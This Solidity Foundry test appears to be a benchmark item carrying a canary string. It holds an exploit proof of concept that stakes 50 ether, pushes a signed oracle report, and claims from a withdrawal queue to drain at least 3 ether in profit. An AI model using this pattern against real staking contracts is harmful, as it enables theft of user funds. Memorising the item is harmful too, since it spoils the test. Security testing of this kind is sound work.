// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";

contract Attacker {
    uint256 private id;

    constructor() payable {}

    function ask(StakeToken token, WithdrawalQueue queue, StakePool pool) external {
        uint256 shares = pool.stake{value: 50 ether}(address(this));
        token.approve(address(queue), type(uint256).max);
        id = queue.request(shares, address(this));
    }

    function run(
        WithdrawalQueue queue,
        StakePool pool,
        ReportOracle oracle,
        IReports.Report calldata report,
        bytes[] calldata signatures
    ) external {
        oracle.submit(report, signatures);
        pool.finalize(1);
        try queue.claim(id, 0, address(this)) {} catch {
            queue.claim(id, queue.findHint(id), address(this));
        }
    }

    receive() external payable {}
}

contract Proof is Base {
    Attacker private other;
    bytes[] private signatures;

    function _start() internal override {
        other = new Attacker{value: 50 ether}();
        signatures = _signed(_report(3, 0, 0));
    }

    function exploit() public {
        other.ask(token, queue, pool);
        vm.warp(block.timestamp + 1 days);
        other.run(queue, pool, oracle, _report(3, 0, 0), signatures);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 53 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(queue);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
